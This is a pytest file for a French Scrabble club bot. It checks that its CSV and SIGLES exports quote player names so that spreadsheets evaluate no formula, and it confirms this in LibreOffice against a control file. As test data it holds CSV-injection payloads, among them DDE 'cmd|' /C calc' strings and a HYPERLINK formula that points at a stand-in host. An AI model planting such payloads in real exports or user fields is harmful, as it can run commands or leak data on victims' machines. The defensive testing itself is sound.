"""Every exported cell is inert (issue 35, item 9) and the federation's file names what Latin-1 changed
(item 8), through the real commands: players named ``=HYPERLINK("//e.x/"&B3)``, ``+cmd|' /C calc'!A0``,
``-2+3+cmd|' /C calc'!A0``, ``@SUM(1)``, ``\\t=1+1`` and ``\\r=1+1`` play a duplicate game (in a series), a
classic series, a sheet without a board and a simultané in two rooms; every CSV and every SIGLES file the
bot sends is read back, each text cell checked not to begin a formula, each number to be a number; then
LibreOffice opens them all and evaluates none (checked against a file that it does evaluate).

The names reach the games as the platforms give them, through ``bot.play.seats.clean_name``: ``@`` is
taken out (a mention), so ``@SUM(1)`` plays as ``SUM(1)``; spaces are made single and stripped at both
ends, so ``\\t=1+1`` and ``\\r=1+1`` play as ``=1+1`` (the second, another account, as ``=1+1 (2)``): their
leading tab and carriage return are gone, what is left is a formula, and the exports write ``'=1+1``.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from bot.chat import Reply
from tests.bot.games.simultane.rooms_played import DISCORD, TELEGRAM, code_of
from tests.club import Club

DANGEROUS = frozenset("=+-@\t\r")  # OWASP: a cell beginning with one of these is a formula to a spreadsheet
NUMBER = re.compile(r"-?\d+(?:\.\d+)?")

HYPERLINK, CMD, SUM_CMD = '=HYPERLINK("//e.x/"&B3)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"
TYPED = [HYPERLINK, CMD, SUM_CMD, "@SUM(1)", "\t=1+1", "\r=1+1"]  # the display names, as the platform gives them
SEATED = [HYPERLINK, CMD, SUM_CMD, "SUM(1)", "=1+1", "=1+1 (2)"]  # the names the duplicate game gives them
MOVES = ["H6 CHANTEZ", "H4 CHANTEZ", "H8 CHANT", "H4 CHANT", "H6 CHANTEZ", "H8 CHANT"]  # 112, 98, 22, 26, 112, 22


def quoted(name: str) -> str:
    """A name as an export must write it (the rule written again here, not the code's)."""
    return "'" + name if name[:1] in DANGEROUS else name


@dataclass
class Exports:
    """What the bot sent: each file by a name of ours, as bytes, and its reply's text."""

    files: dict[str, bytes] = field(default_factory=dict)
    texts: dict[str, str] = field(default_factory=dict)

    def take(self, key: str, replies: list[Reply]) -> None:
        (sent,) = [r for r in replies if r.document is not None]
        assert sent.document is not None
        self.files[key], self.texts[key] = sent.document, sent.text


def duplicate_in_a_series(club: Club, exports: Exports) -> None:
    channel = "duplicate"
    club.ok("Boss", "/series nouvelle Automne", channel=channel, admin=True)
    club.ok("Ref", "/duplicate 1 manuel sanctions", channel=channel)  # warnings columns in the CSV too
    club.ok("Ref", "/tirage ACEHNTZ", channel=channel)
    for name, move in zip(TYPED, MOVES, strict=True):
        club.ok(name, f"/jouer {move}", channel=channel, private=True)
    club.ok("Ref", "/cloture", channel=channel)
    club.ok("Ref", "/fin", channel=channel)
    club.ok("Ref", "/series ajoute", channel=channel)
    exports.take("duplicate-results.csv", club.send("Ref", "/export", channel=channel))
    exports.take("duplicate-sigles.txt", club.send("Ref", "/export sigles", channel=channel))
    exports.take("duplicate-series.csv", club.send("Ref", "/series export", channel=channel))


def classic_series(club: Club, exports: Exports) -> None:
    channel = "classic"
    club.ok("Boss", "/series nouvelle Hiver", channel=channel, admin=True)
    club.ok("Ref", "/nouvelle", channel=channel)
    club.ok(HYPERLINK, "/rejoindre", channel=channel)
    club.ok("\t=1+1", "/rejoindre", channel=channel)
    club.ok(HYPERLINK, "/coup H8 VAGUE", channel=channel)
    club.ok("\t=1+1", "/coup 9H AS", channel=channel)
    club.ok("Ref", "/fin EAU !", channel=channel)  # the rack of the one who did not go out
    club.ok("Ref", "/series ajoute", channel=channel)
    exports.take("classic-series.csv", club.send("Ref", "/series export", channel=channel))


def sheet_without_board(club: Club, exports: Exports) -> None:
    channel = "sheet"  # names typed in /new: words without spaces or commas
    club.ok("Ref", f"/nouvelle {HYPERLINK} +cmd|'/C -2+3+cmd|' @SUM(1) sans-grille", channel=channel)
    for turn in ("/coup H4 VAGUE 26", "/coup 12", "/coup passe", "/coup 4G AVIONS 18"):
        club.ok("Ref", turn, channel=channel)
    club.ok("Ref", "/fin SUM(1)=QZ +cmd|'/C:7 -2+3+cmd|':EAU", channel=channel)  # the first one went out
    exports.take("sheet.csv", club.send("Ref", "/export", channel=channel))


def simultane(club: Club, exports: Exports) -> None:
    code = code_of(club.ok("Org", "/simultane creer 1 tirages ACEHNTZ", channel=DISCORD, admin=True))
    for channel in (DISCORD, TELEGRAM):
        club.ok("Boss", f"/simultane rejoindre {code}", channel=channel, admin=True)
    for index, (name, move) in enumerate(zip([*TYPED, "Œdipe"], [*MOVES, "H8 CHANT"], strict=True)):
        club.ok(name, f"/jouer {move}", channel=(DISCORD, TELEGRAM)[index % 2], private=True)
    for channel in (DISCORD, TELEGRAM):
        club.ok("Boss", "/cloture", channel=channel, admin=True)
    club.tick(0)  # the room that finished first closes round 1 with the other (the rooms are paced)
    for channel in (DISCORD, TELEGRAM):
        club.ok("Boss", "/fin", channel=channel, admin=True)
    exports.take("simultane.csv", club.send("Org", "/simultane export", channel=DISCORD))
    exports.take("simultane-sigles.zip", club.send("Org", "/simultane export sigles", channel=DISCORD))
    for room, channel in (("room1", DISCORD), ("room2", TELEGRAM)):
        exports.take(f"simultane-{room}-results.csv", club.send("Boss", "/export", channel=channel))
        exports.take(f"simultane-{room}-sigles.txt", club.send("Boss", "/export sigles", channel=channel))


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Exports]:
    """Every game above played once on one SQLite file, and what each export sent."""
    club = Club(tmp_path_factory.mktemp("exports") / "club.sqlite")
    found = Exports()
    for play in (duplicate_in_a_series, classic_series, sheet_without_board, simultane):
        play(club, found)
    yield found
    club.close()


# --- reading the files back ------------------------------------------------------------------------

# Each file's columns of text (from people, or the bot's words), per section (sections apart by an empty
# row, each with its header row); every other cell must be a number or empty. SIGLES files have no header.
TEXT_COLUMNS: dict[str, list[set[int]]] = {
    "results.csv": [{1}],  # place, player, total, gap, percent, solos, [warnings, deduction], each move
    "series.csv": [{1}],  # place, player, total, tops, gap, percent, games, best, its number / wins...
    "sheet.csv": [{1, 2, 3}, {1}],  # number, player, move, square, points, total; place, player, total
    "simultane.csv": [{1, 2}],  # place, player, room, total, gap, percent, solos, warnings, stopped after
    "centres.csv": [{0, 1, 2}],  # centre code, name, file, players, rounds
    "sigles.txt": [{1}],  # table, name, total
}


def csv_files(exports: Exports) -> dict[str, str]:
    """Every CSV or SIGLES file sent, as text: the simultané's archive opened, SIGLES read as Latin-1."""
    texts: dict[str, str] = {}
    for key, data in exports.files.items():
        if key.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                for name in archive.namelist():
                    texts[f"zip-{name}"] = archive.read(name).decode("latin-1")
        else:
            texts[key] = data.decode("latin-1" if key.endswith("sigles.txt") else "utf-8")
    return texts


def layout(key: str) -> list[set[int]]:
    return next(columns for end, columns in TEXT_COLUMNS.items() if key.endswith(end))


def sections(rows: list[list[str]]) -> list[list[list[str]]]:
    """The rows cut at each empty row."""
    parts: list[list[list[str]]] = [[]]
    for row in rows:
        if any(row):
            parts[-1].append(row)
        else:
            parts.append([])
    return [part for part in parts if part]


def cells_of(key: str, text: str) -> Iterator[tuple[str, bool]]:
    """Every cell of a file, and whether its column holds text (a header's cells are text)."""
    header = not key.endswith("sigles.txt")
    for columns, part in zip(layout(key), sections(list(csv.reader(io.StringIO(text)))), strict=True):
        for number, row in enumerate(part):
            for index, cell in enumerate(row):
                yield cell, (header and number == 0) or index in columns


def test_the_names_the_games_were_given(exports: Exports) -> None:
    rows = list(csv.reader(io.StringIO(exports.files["duplicate-results.csv"].decode("utf-8"))))
    assert sorted(row[1] for row in rows[2:]) == sorted(quoted(name) for name in SEATED)
    assert "SUM(1)" in [row[1] for row in rows]  # @ taken out of the display name: not a formula in itself
    assert [row[1] for row in rows if row[3] == "-86"]  # a negative gap, written as a number


def test_every_file_was_sent(exports: Exports) -> None:
    assert sorted(csv_files(exports)) == [
        "classic-series.csv",
        "duplicate-results.csv",
        "duplicate-series.csv",
        "duplicate-sigles.txt",
        "sheet.csv",
        "simultane-room1-results.csv",
        "simultane-room1-sigles.txt",
        "simultane-room2-results.csv",
        "simultane-room2-sigles.txt",
        "simultane.csv",
        "zip-Salon_1-sigles.txt",
        "zip-Salon_2-sigles.txt",
        "zip-centres.csv",
    ]


def test_every_text_cell_is_inert_and_every_number_a_number(exports: Exports) -> None:
    checked = {"text": 0, "number": 0, "quoted": 0}
    for key, text in csv_files(exports).items():
        for cell, is_text in cells_of(key, text):
            if is_text:
                assert cell[:1] not in DANGEROUS, (key, cell)
                assert cell.lstrip()[:1] not in DANGEROUS, (key, cell)
                checked["text"] += 1
                checked["quoted"] += cell.startswith("'")
            else:
                assert cell == "" or NUMBER.fullmatch(cell), (key, cell)
                checked["number"] += cell != ""
    assert checked["text"] > 100
    assert checked["number"] > 100
    assert checked["quoted"] > 30


def test_every_file_names_its_hostile_players_quoted(exports: Exports) -> None:
    files = csv_files(exports)
    for key in ("duplicate-results.csv", "duplicate-series.csv", "duplicate-sigles.txt"):
        names = {cell for cell, is_text in cells_of(key, files[key]) if is_text}
        # the SIGLES format turns a double quote into a single one (it has no escape)
        expected = {quoted(name).replace('"', "'") if key.endswith(".txt") else quoted(name) for name in SEATED}
        assert expected <= names, key
    classic = list(csv.reader(io.StringIO(files["classic-series.csv"])))
    assert [row[:2] for row in classic[1:]] == [["1", quoted(HYPERLINK)], ["2", "'=1+1"]]
    sheet = sections(list(csv.reader(io.StringIO(files["sheet.csv"]))))
    # 26, 12, 0, 18 before the racks: the first gains QZ 18 + 7 + EAU 3 the others lose (FISF 5.1.1)
    assert sheet[1][1:] == [
        ["1", quoted(HYPERLINK), "54"],
        ["2", "'+cmd|'/C", "5"],
        ["3", "SUM(1)", "0"],
        ["4", "'-2+3+cmd|'", "-3"],
    ]
    overall = list(csv.reader(io.StringIO(files["simultane.csv"])))
    assert {row[1] for row in overall[1:]} == {quoted(name) for name in SEATED[:4]} | {"'=1+1", "Œdipe"}


def changed_line(text: str) -> str:
    """The reply's line listing the names its file changed."""
    (line,) = [line for line in text.split("\n") if line.startswith("Noms changés pour le fichier")]
    return line.split(" : ", 1)[1]


def test_the_federation_files_say_which_names_they_changed(exports: Exports) -> None:
    # the archive: the first room's tables, then the second's (1 +cmd, 2 SUM(1), 3 =1+1), each change once
    assert changed_line(exports.texts["simultane-sigles.zip"]) == ", ".join(
        [
            f"{HYPERLINK} → '=HYPERLINK('//e.x/'&B3)",  # SIGLES has no escape for a double quote
            f"{SUM_CMD} → '{SUM_CMD}",
            "=1+1 → '=1+1",
            "Œdipe → OEdipe",
            f"{CMD} → '{CMD}",
        ]
    )
    files = csv_files(exports)
    assert files["zip-Salon_1-sigles.txt"].splitlines()[3] == '"4","OEdipe","22"'
    assert files["simultane-room1-sigles.txt"].splitlines()[3] == '"4","OEdipe","22"'  # no solo in the room
    assert "Œdipe → OEdipe" in changed_line(exports.texts["simultane-room1-sigles.txt"])
    room = changed_line(exports.texts["duplicate-sigles.txt"])
    assert f"{CMD} → '{CMD}" in room
    assert "=1+1 (2) → '=1+1 (2)" in room
    assert "SUM(1)" not in room


@pytest.mark.parametrize(
    ("lang", "line"),
    [
        ("fr", "Noms changés pour le fichier (Latin-1, pas de formule pour un tableur) : Œdipe → OEdipe, Zoé 🎲 → Zoé"),
        ("en", "Names changed for the file (Latin-1, no formula for a spreadsheet): Œdipe → OEdipe, Zoé 🎲 → Zoé"),
    ],
)
def test_letters_latin_1_lacks_are_transliterated_and_the_reply_says_so(club: Club, lang: str, line: str) -> None:
    club.ok("Boss", f"/reglages langue {lang}", admin=True)
    club.ok("Ref", "/duplicate 1 manuel")
    club.ok("Ref", "/tirage ACEHNTZ")
    for name, move in (("Œdipe", "H6 CHANTEZ"), ("Zoé 🎲", "H8 CHANT"), ("Ana", "H4 CHANT")):
        club.ok(name, f"/play {move}", private=True)
    club.ok("Ref", "/close")
    club.ok("Ref", "/end")
    (sent,) = club.send("Ref", "/export sigles")
    lines = sent.text.split("\n")
    assert "Zoé 🎲" in lines[1]  # the tables listed with the game's names, emoji and all
    assert line in lines
    assert sent.document == b'"1","OEdipe","112"\n"2","Zo\xe9","22"\n"3","Ana","26"\n'


def test_a_file_whose_names_latin_1_holds_adds_no_line(club: Club) -> None:
    club.ok("Ref", "/duplicate 1 manuel")
    club.ok("Ref", "/tirage ACEHNTZ")
    club.ok("Élodie", "/jouer H6 CHANTEZ", private=True)
    club.ok("Ref", "/cloture")
    club.ok("Ref", "/fin")
    (sent,) = club.send("Ref", "/export sigles")
    assert "Noms changés" not in sent.text
    assert sent.document == b'"1","\xc9lodie","112"\n'


# --- LibreOffice ---------------------------------------------------------------------------------------

SOFFICE = shutil.which("soffice")
# CSV filter options: comma, double quote, UTF-8 (76), from line 1, no column formats, English (US) numbers
READ = "CSV:44,34,76,1,,1033"
WRITE = "csv:Text - txt - csv (StarCalc):44,34,76,1"
CONTROL = [["=1+1", HYPERLINK, "-14", "Ana"]]  # cells as they were written before: LibreOffice evaluates them


def write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


def rows_of(text: str) -> list[list[str]]:
    """A CSV's rows without their trailing empty cells, empty rows left out (LibreOffice writes every row
    as wide as the widest)."""
    rows = [list(row) for row in csv.reader(io.StringIO(text))]
    for row in rows:
        while row and not row[-1]:
            row.pop()
    return [row for row in rows if row]


def same_cell(before: str, after: str) -> bool:
    """Whether LibreOffice gave the cell back: a text as it was, a number as the same number."""
    if NUMBER.fullmatch(before):
        return NUMBER.fullmatch(after) is not None and float(after) == float(before)
    return after == before


@pytest.mark.long(5)
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_evaluates_no_cell_of_any_file(exports: Exports, tmp_path: Path) -> None:
    """Every file opened in LibreOffice (all in one run, a fresh profile) and saved again as CSV: each
    text cell comes back as it was written, each number as the same number; the control file, written as
    the exports were before, comes back evaluated."""
    sources, out = tmp_path / "in", tmp_path / "out"
    sources.mkdir()
    files = {key.replace(".", "_") + ".csv": text for key, text in csv_files(exports).items()}  # all as UTF-8 CSV
    for name, text in files.items():
        (sources / name).write_text(text, encoding="utf-8")
    write_csv(sources / "control.csv", CONTROL)
    assert SOFFICE is not None
    command = [SOFFICE, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--norestore"]
    command += [f"--infilter={READ}", "--convert-to", WRITE, "--outdir", str(out)]
    subprocess.run([*command, *sorted(str(p) for p in sources.iterdir())], check=True, capture_output=True, timeout=300)

    (control,) = rows_of((out / "control.csv").read_text(encoding="utf-8"))
    assert control[0] == "2"
    assert control[1] != HYPERLINK
    assert control[2:] == ["-14", "Ana"]
    compared = 0
    for name, text in files.items():
        before, after = rows_of(text), rows_of((out / name).read_text(encoding="utf-8"))
        assert [len(row) for row in after] == [len(row) for row in before], name
        for row_before, row_after in zip(before, after, strict=True):
            for cell_before, cell_after in zip(row_before, row_after, strict=True):
                assert same_cell(cell_before, cell_after), (name, cell_before, cell_after)
                compared += 1
    assert compared > 300
